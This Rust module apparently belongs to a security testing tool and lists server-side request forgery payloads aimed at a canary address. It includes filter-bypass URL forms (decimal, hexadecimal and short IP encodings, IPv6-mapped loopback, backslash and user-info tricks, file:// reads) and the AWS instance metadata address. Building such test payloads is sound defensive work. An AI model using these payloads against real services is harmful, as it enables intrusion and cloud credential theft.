//! Payloads for addresses that the function asks: the canary address on loopback, and nothing else but the port of it on the
//! metadata address. AWS "Instance metadata" has the service at 169.254.169.254, port 80: no other port answers there.

use super::{Effect, Payload, PayloadClass};

const fn ssrf(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::Ssrf, id, template, Effect::Connects, why)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    ssrf("ssrf-url", "http://{A}:{P}/{C}", "the function asks whatever URL it is given"),
    ssrf("ssrf-user-info", "@{A}:{P}/{C}", "behind a host name without a slash, that name is user info"),
    ssrf("ssrf-host", "{A}:{P}/{C}?", "in the place of a host: what follows becomes a query"),
    ssrf(
        "ssrf-metadata",
        "http://169.254.169.254:{P}/{C}",
        "refused by nobody who refuses loopback and private networks only",
    ),
    ssrf("ssrf-scheme-relative", "//{A}:{P}/{C}", "relative to a base, two slashes begin a host"),
    ssrf("ssrf-backslash", "/\\{A}:{P}/{C}", "a path by its first letters, a host to WHATWG URL parsers"),
    ssrf("ssrf-decimal", "http://{D}:{P}/{C}", "an address on loopback as one number"),
    ssrf("ssrf-hexadecimal", "http://0x{H}:{P}/{C}", "an address on loopback as one hexadecimal number"),
    ssrf("ssrf-short", "http://127.{S}:{P}/{C}", "an address on loopback in its short form"),
    ssrf("ssrf-zero", "http://0.0.0.0:{P}/{C}", "the unspecified address is this machine on Linux"),
    ssrf("ssrf-mapped", "http://[::ffff:{A}]:{P}/{C}", "an address on loopback as an IPv6 address"),
    ssrf(
        "ssrf-name",
        "http://{C}.localhost:{P}/{C}",
        "the nonce is in the host name, so asking for its address is enough (RFC 6761: loopback)",
    ),
    Payload::new(
        PayloadClass::Ssrf,
        "ssrf-file",
        "file://{F}/{C}",
        Effect::Opens("{F}/{C}"),
        "clients that know more than http read files",
    ),
];
